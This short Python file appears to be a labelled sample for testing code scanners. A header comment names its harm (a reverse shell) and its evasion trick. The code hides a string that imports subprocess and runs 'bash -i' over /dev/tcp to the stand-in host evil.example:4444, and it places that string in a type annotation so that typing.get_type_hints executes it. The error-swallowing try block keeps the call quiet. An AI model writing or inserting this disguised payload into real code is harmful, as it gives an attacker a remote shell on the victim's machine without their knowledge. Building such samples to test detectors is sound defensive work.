# harm: spawns a reverse shell ; trick: string stored as a keyword of types.SimpleNamespace and read back as ns.kind in the annotation
import types
import typing

ns = types.SimpleNamespace(kind="__import__('subprocess').Popen(['bash','-c','bash -i >& /dev/tcp/evil.example/4444 0>&1'])")


def f(x: ns.kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
